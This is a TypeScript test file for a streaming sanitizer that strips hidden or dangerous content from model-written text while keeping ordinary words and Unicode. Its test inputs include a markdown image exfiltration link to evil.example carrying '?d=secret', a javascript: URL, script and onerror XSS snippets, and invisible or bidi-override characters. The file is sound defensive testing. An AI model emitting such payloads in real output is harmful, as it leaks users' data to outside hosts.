import { describe, expect, it } from "vitest";
import { createPlainText } from "./plain-text.ts";

/** Fed in pieces of every size, the outcome must be the same. */
function through(text: string): string {
  const results = [1, 2, 3, 7, 50, text.length + 1].map((size) => {
    const plain = createPlainText();
    let shown = "";
    for (let at = 0; at < text.length; at += size) shown += plain.push(text.slice(at, at + size));
    return shown + plain.end();
  });
  expect(new Set(results).size).toBe(1);
  return results[0] ?? "";
}

describe("what a model writes", () => {
  it.each([
    ["Within 30 days [1]. Refunds take a week [1][2]!", "Within 30 days [1]. Refunds take a week [1][2]!"],
    ["Look ![logo](https://evil.example/p.png?d=secret) here.", "Look  here."],
    ["Look ![](data:image/png;base64,AAAA(1)) here.", "Look  here."],
    ["See [our guide](https://shop.example/guide).", "See our guide (https://shop.example/guide)."],
    ["See [https://shop.example](https://shop.example).", "See https://shop.example."],
    ["Click [here](javascript:alert(1)) now.", "Click here now."],
    ["Within 30 days [1](see the policy).", "Within 30 days [1](see the policy)."],
    ['A <img src=x onerror="steal()"> B<script>steal()</script>.', "A  Bsteal()."],
    ["If a < b and b > c, press <Enter>.", "If a < b and b > c, press <Enter>."],
    ["se\u200bcr\u2060et\ufeff and \u202Ereversed\u202C", "secret and reversed"],
    ["a\u200db\u200c c", "ab c"],
    ["family 👨\u200d👩\u200d👧, می\u200cخواهم, क्\u200dष", "family 👨\u200d👩\u200d👧, می\u200cخواهم, क्\u200dष"],
    ["Cut off ![logo](https://evil.example/p.png?d=sec", "Cut off "],
    ["Cut off <img src=https://evil.example", "Cut off "],
    ["Really!", "Really!"],
    ["A list: [a, b, c", "A list: [a, b, c"],
  ])("keeps its words and loses what hides: %j", (text, shown) => {
    expect(through(text)).toBe(shown);
  });

  it("is not held back for ever by a bracket that never ends", () => {
    const plain = createPlainText();
    const long = `![x](https://evil.example/${"a".repeat(10_000)}`;
    expect((plain.push(long) + plain.end()).length).toBeGreaterThanOrEqual(0);
    expect(createPlainText().push(`a < ${"word ".repeat(1_000)}`).length).toBeGreaterThan(4_000);
  });
});
